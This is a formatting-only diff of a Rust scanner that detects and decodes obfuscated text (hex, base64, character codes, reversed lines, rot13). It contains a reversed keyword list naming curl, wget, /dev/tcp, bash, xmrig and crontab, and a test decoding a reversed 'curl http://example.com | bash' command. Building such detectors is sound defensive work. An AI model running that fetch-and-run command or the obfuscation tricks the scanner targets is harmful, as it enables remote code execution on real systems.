@@ -35,7 +35,11 @@ struct Shape {
 static SHAPES: LazyLock<Vec<Shape>> = LazyLock::new(|| {
     let shapes: [(&'static str, &str, Decoder); 8] = [
         ("hex", r"(?:[0-9a-fA-F]{2}){8,}", decode_hex),
-        ("hex", r"(?:[0-9a-fA-F]{2}[ :]){8,}[0-9a-fA-F]{2}", decode_hex),
+        (
+            "hex",
+            r"(?:[0-9a-fA-F]{2}[ :]){8,}[0-9a-fA-F]{2}",
+            decode_hex,
+        ),
         (
             "base64",
             r"[A-Za-z0-9+/_-]{20,}(?:\r?\n[A-Za-z0-9+/_-]{16,})*={0,2}",
@@ -48,7 +52,11 @@ static SHAPES: LazyLock<Vec<Shape>> = LazyLock::new(|| {
             r"(?:\\(?:x[0-9a-fA-F]{2}|u00[0-9a-fA-F]{2}|0?[0-1][0-7]{2})[ -\[\]-~]?){4,}",
             decode_escapes,
         ),
-        ("codes", r"(?:\b[0-9]{1,3}\b[, ]+){7,}[0-9]{1,3}\b", decode_codes),
+        (
+            "codes",
+            r"(?:\b[0-9]{1,3}\b[, ]+){7,}[0-9]{1,3}\b",
+            decode_codes,
+        ),
         (
             "hex",
             r"(?:\b0x[0-9a-fA-F]{2}\b[, ]*){8,}",
@@ -60,7 +68,11 @@ static SHAPES: LazyLock<Vec<Shape>> = LazyLock::new(|| {
         .filter_map(|(encoding, pattern, decode)| {
             let pattern = format!("(?-u){pattern}");
             let regex = Regex::new(&pattern).ok()?;
-            Some(Shape { encoding, regex, decode })
+            Some(Shape {
+                encoding,
+                regex,
+                decode,
+            })
         })
         .collect()
 });
@@ -68,8 +80,23 @@ static SHAPES: LazyLock<Vec<Shape>> = LazyLock::new(|| {
 /// Words that show that a text is written backwards.
 static REVERSED: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
     let words = [
-        "lruc", "tegw", "//:ptth", "//:sptth", "hsab/", "pct/ved", "pdu/ved", "46esab", "tropmi",
-        "muitarts", "girmx", "nohtyp", "429.861.", "452.961.962", "hs/nib", "batnorc", "dlroc/",
+        "lruc",
+        "tegw",
+        "//:ptth",
+        "//:sptth",
+        "hsab/",
+        "pct/ved",
+        "pdu/ved",
+        "46esab",
+        "tropmi",
+        "muitarts",
+        "girmx",
+        "nohtyp",
+        "429.861.",
+        "452.961.962",
+        "hs/nib",
+        "batnorc",
+        "dlroc/",
     ];
     AhoCorasick::new(words).ok()
 });
@@ -93,12 +120,18 @@ pub(super) fn find(text: &[u8]) -> Vec<Found> {
                 continue;
             };
             if bytes.as_slice() != piece && is_readable(&bytes) {
-                found.push(Found { offset: place.start(), encoding: shape.encoding, bytes });
+                found.push(Found {
+                    offset: place.start(),
+                    encoding: shape.encoding,
+                    bytes,
+                });
             }
         }
     }
     let lines: [(&'static str, &LazyLock<Option<AhoCorasick>>, Decoder); 2] = [
-        ("reversed", &REVERSED, |line| Some(codec::reverse_lines(line))),
+        ("reversed", &REVERSED, |line| {
+            Some(codec::reverse_lines(line))
+        }),
         ("rot13", &SHIFTED, |line| Some(codec::rot13(line))),
     ];
     for (encoding, words, decode) in lines {
@@ -111,7 +144,11 @@ pub(super) fn find(text: &[u8]) -> Vec<Found> {
             if taken < MOST_CANDIDATES && words.is_match(line) {
                 taken += 1;
                 let bytes = decode(line).unwrap_or_default();
-                found.push(Found { offset, encoding, bytes });
+                found.push(Found {
+                    offset,
+                    encoding,
+                    bytes,
+                });
             }
             offset += line.len();
         }
@@ -200,11 +237,23 @@ mod tests {
         let one = |text: &str| {
             let found = find(text.as_bytes());
             let first = found.first().unwrap();
-            (first.encoding, String::from_utf8_lossy(&first.bytes).into_owned())
+            (
+                first.encoding,
+                String::from_utf8_lossy(&first.bytes).into_owned(),
+            )
         };
-        assert_eq!(one("x='ZWNobyBoZWxsbyB3b3JsZA=='"), ("base64", "echo hello world".into()));
+        assert_eq!(
+            one("x='ZWNobyBoZWxsbyB3b3JsZA=='"),
+            ("base64", "echo hello world".into())
+        );
         assert_eq!(one("6563686f2068656c6c6f"), ("hex", "echo hello".into()));
-        assert_eq!(one("[101,99,104,111,32,104,105,33]"), ("codes", "echo hi!".into()));
-        assert_eq!(one("hsab | moc.elpmaxe//:ptth lruc").1, "curl http://example.com | bash");
+        assert_eq!(
+            one("[101,99,104,111,32,104,105,33]"),
+            ("codes", "echo hi!".into())
+        );
+        assert_eq!(
+            one("hsab | moc.elpmaxe//:ptth lruc").1,
+            "curl http://example.com | bash"
+        );
     }
 }
